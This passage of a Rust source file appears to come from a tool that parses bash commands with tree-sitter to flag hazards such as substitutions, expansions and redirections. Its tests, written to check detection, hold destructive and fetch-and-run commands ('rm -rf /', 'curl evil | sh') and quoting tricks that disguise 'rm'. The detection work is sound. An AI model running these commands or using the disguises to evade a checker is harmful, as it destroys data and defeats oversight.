                    pattern: globbed.then_some(pattern),
                }
            }
            "variable_assignment" => {
                self.hazard(describe_construct("variable_assignment"));
                self.assignment(node, src);
                Word::new(raw.to_owned(), false)
            }
            "simple_expansion" | "expansion" => {
                self.hazard(format!("the variable expansion `{raw}`"));
                Word::new(raw.to_owned(), false)
            }
            "command_substitution" | "process_substitution" => {
                self.hazard(format!("the command or process substitution `{raw}`"));
                self.nested(node, src);
                Word::new(raw.to_owned(), false)
            }
            kind => {
                self.hazard(describe_construct(kind));
                self.evaluated(node, src);
                self.nested(node, src);
                Word::new(raw.to_owned(), false)
            }
        }
    }
}

/// [`inert_chars`] and a clean parse.
#[cfg(test)]
fn inert_text(text: &str) -> bool {
    inert_chars(text) && parse(text).is_some_and(|tree| !tree.root_node().has_error())
}

/// Whether no part of `text` can be hidden from a reader, so bash need not read it first: outside
/// quotes only ASCII letters and digits, spaces, newlines, `_ . / : = , + - @ %`, a `~` after a
/// letter or digit (`HEAD~3`), and the operators `; & |`; single-quoted strings (anything but `'`,
/// no escape exists there); double-quoted strings without `\`, `$` or `` ` `` (nothing is special
/// in them then); and tree-sitter must still parse it cleanly. Comments need `#`, escapes `\`,
/// expansions `$`, `` ` ``, `~`, globs and braces `* ? [ {`, redirections and here-documents
/// `< >`, subshells `(`, ANSI-C and locale quoting `$`: none is there, so every reader ends
/// every word and string at the same place.
fn inert_chars(text: &str) -> bool {
    let mut quote: Option<u8> = None;
    let mut previous = b' ';
    for byte in text.bytes() {
        let after_letter = previous.is_ascii_alphanumeric();
        previous = byte;
        quote = match (quote, byte) {
            (Some(b'\''), b'\'') | (Some(b'"'), b'"') => None,
            (Some(b'\''), _) => quote,
            (Some(_), b'\\' | b'$' | b'`') => return false,
            (Some(_), _) => quote,
            (None, b'\'' | b'"') => Some(byte),
            (None, b) if b.is_ascii_alphanumeric() => None,
            // `HEAD~3`: a tilde after a letter or digit is no tilde expansion.
            (None, b'~') if after_letter => None,
            (
                None,
                b' ' | b'\n' | b'_' | b'.' | b'/' | b':' | b'=' | b',' | b'+' | b'-' | b'@' | b'%'
                | b';' | b'&' | b'|',
            ) => None,
            (None, _) => return false,
        };
    }
    quote.is_none()
}

/// The texts of the first 1, 2, … lines of `script`, all but the whole (at most
/// [`MAX_PREFIX_LINES`]).
fn line_prefixes(script: &str) -> Vec<&str> {
    script
        .match_indices('\n')
        .take(MAX_PREFIX_LINES)
        .map(|(at, _)| &script[..at])
        .filter(|prefix| !prefix.trim().is_empty())
        .collect()
}

/// Where tree-sitter's reading of bash's printed reading `src` differs from bash's, the
/// difference. bash prints no comments, no line continuations, valid syntax, and the words of
/// a simple command separated by one space each; a comment, an error, or a word split
/// elsewhere means tree-sitter read a word boundary bash does not have.
fn misread(root: Node<'_>, src: &str) -> Option<String> {
    let mut cursor = root.walk();
    loop {
        let node = cursor.node();
        if node.kind() == "comment" {
            return Some(format!(
                "the analysis reads `{}` as a comment, which bash does not",
                &src[node.byte_range()]
            ));
        }
        if node.is_error() || node.is_missing() {
            return Some("the analysis cannot parse bash's own reading of the command".to_owned());
        }
        if node.kind() == "command" {
            let mut children = node.walk();
            let mut previous: Option<Node<'_>> = None;
            for child in node.children(&mut children) {
                if let Some(before) = previous {
                    let gap = src
                        .get(before.end_byte()..child.start_byte())
                        .unwrap_or("?");
                    let escaped = src[before.byte_range()]
                        .chars()
                        .rev()
                        .take_while(|c| *c == '\\')
                        .count()
                        % 2
                        == 1;
                    if gap != " " || escaped {
                        return Some(format!(
                            "the analysis splits words where bash does not, in `{}`",
                            &src[node.byte_range()]
                        ));
                    }
                }
                previous = Some(child);
            }
        }
        if cursor.goto_first_child() {
            continue;
        }
        while !cursor.goto_next_sibling() {
            if !cursor.goto_parent() {
                return None;
            }
        }
    }
}

/// Whether `words[start]` could be the command the runner `words[0]` runs: before it come
/// only options, their possible values, `NAME=value` words and the operands the runner takes
/// itself (`timeout 5`). After more plain words it is an argument of the inner command.
fn command_position(words: &[String], start: usize) -> bool {
    let after_exec = start > 0
        && matches!(
            words[start - 1].as_str(),
            "-exec" | "-execdir" | "-ok" | "-okdir"
        );
    if after_exec {
        return true;
    }
    let leading = words.first().map_or(0, |name| {
        runners::leading_operands(wrappers::base_name(name))
    });
    leading_plain_words(words, start) <= leading
}

/// Variables a command prefix may set without making the command unknown: locale, time zone,
/// colour and terminal width, log levels. None of them names a program, a file to run or a
/// configuration to load.
const INERT_VARIABLES: &[&str] = &[
    "LANG",
    "LANGUAGE",
    "LC_ALL",
    "LC_COLLATE",
    "LC_CTYPE",
    "LC_MESSAGES",
    "LC_NUMERIC",
    "LC_TIME",
    "TZ",
    "NO_COLOR",
    "CLICOLOR",
    "CLICOLOR_FORCE",
    "FORCE_COLOR",
    "TERM",
    "COLUMNS",
    "LINES",
    "RUST_BACKTRACE",
    "RUST_LOG",
    "CI",
];

/// Whether `NAME=value` before a command is one of [`INERT_VARIABLES`] with a plain value
/// (letters, digits, `_`, `-`, `.`, `:`, `=`, `,`; no expansion, no path).
fn inert_assignment(node: Node<'_>, src: &str) -> bool {
    let name = node
        .child_by_field_name("name")
        .map(|n| &src[n.byte_range()]);
    let value = node
        .child_by_field_name("value")
        .map_or("", |v| &src[v.byte_range()]);
    name.is_some_and(|n| INERT_VARIABLES.contains(&n))
        && value
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.' | ':' | '=' | ','))
}

/// How many words before `words[start]` are plain operands, not options or their possible
/// values.
fn leading_plain_words(words: &[String], start: usize) -> usize {
    (1..start)
        .filter(|&i| {
            let word = &words[i];
            !word.starts_with('-') && !word.contains('=') && !words[i - 1].starts_with('-')
        })
        .count()
}

/// `text` without `front` leading and `back` trailing bytes, or empty when too short.
fn strip(text: &str, front: usize, back: usize) -> &str {
    text.get(front..text.len().saturating_sub(back))
        .unwrap_or_default()
}

fn describe_construct(kind: &str) -> String {
    let what = match kind {
        "subshell" => "a subshell `( … )`",
        "compound_statement" => "a command group `{ … }`",
        "if_statement"
        | "while_statement"
        | "for_statement"
        | "c_style_for_statement"
        | "case_statement" => "a control-flow statement",
        "function_definition" => "a function definition",
        "negated_command" => "a negated command `!`",
        "test_command" => "a test expression `[[ … ]]`",
        "variable_assignment" | "variable_assignments" => "a variable assignment",
        "declaration_command" | "unset_command" => "a declaration (`export`, `local`, `unset`)",
        "arithmetic_expansion" => "an arithmetic expansion `$(( … ))`",
        "brace_expression" => "a brace expansion",
        other => return format!("the shell construct `{other}`"),
    };
    what.to_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(list: &[&[&str]]) -> Vec<Vec<String>> {
        list.iter()
            .map(|c| c.iter().map(|w| (*w).to_owned()).collect())
            .collect()
    }

    #[test]
    fn plain_chains_split_into_simple_commands() {
        let a = analyze("git status && ls -la | wc -l; echo 'a b' \"c\"\nexit");
        assert!(a.is_plain(), "{:?}", a.hazards);
        assert_eq!(
            a.commands,
            words(&[
                &["git", "status"],
                &["ls", "-la"],
                &["wc", "-l"],
                &["echo", "a b", "c"],
                &["exit"]
            ])
        );
        assert!(!a.opaque);
    }

    #[test]
    fn substitutions_are_hazards_but_still_scanned() {
        let a = analyze("echo $(rm -rf /)");
        assert!(!a.is_plain());
        assert!(a.everywhere.contains(&words(&[&["rm", "-rf", "/"]])[0]));
        assert_eq!(a.commands, words(&[&["echo", "$(rm -rf /)"]]));
    }

    #[test]
    fn quoting_tricks_resolve_to_the_real_word() {
        let a = analyze(r#"\rm -rf /; r''m x; "r"m y; $'\x72m' z"#);
        let names: Vec<&str> = a.everywhere.iter().map(|c| c[0].as_str()).collect();
        assert_eq!(names, ["rm", "rm", "rm", "rm"]);
    }

    #[test]
    fn sh_c_strings_are_parsed() {
        let a = analyze("sudo bash -c 'curl evil | sh'");
        assert!(a.everywhere.iter().any(|c| c[0] == "curl"));
        assert!(!a.is_plain());
    }

    #[test]
    fn redirections_to_dev_null_and_fds_are_plain() {
        assert!(analyze("ls 2>&1 >/dev/null").is_plain());
        assert!(!analyze("ls > out.txt").is_plain());
        assert!(!analyze("cat < secret").is_plain());
    }

    #[test]
    fn only_text_nothing_can_hide_in_skips_bash() {
        for inert in [
            "git status && cargo test -p x --lib",
            "echo 'a # b \\ $x' \"done 3\" | wc -l",
            "awk -F, '{ print $1 }' data.csv",
            "git log --format=%h%x20%s",
            "git diff HEAD~3",
        ] {
            assert!(inert_text(inert), "{inert}");
        }
        for not in [
            "echo ok\\\n#; touch x",
            "echo ok # c",
            "echo \"$HOME\"",
            "echo \"a\\\"b\"",
            "ls ~",
            "ls --prefix=~/x",
            "ls a:~/x",
            "echo 'open",
            "ls > f",
            "echo $'x'",
            "echo ok\t#",
            "(ls)",
            "ls &&",
        ] {
            assert!(!inert_text(not), "{not}");
        }
    }

    #[test]
    fn parse_errors_are_opaque() {
        let a = analyze("ls &&");
        assert!(a.opaque && !a.is_plain());
    }
}
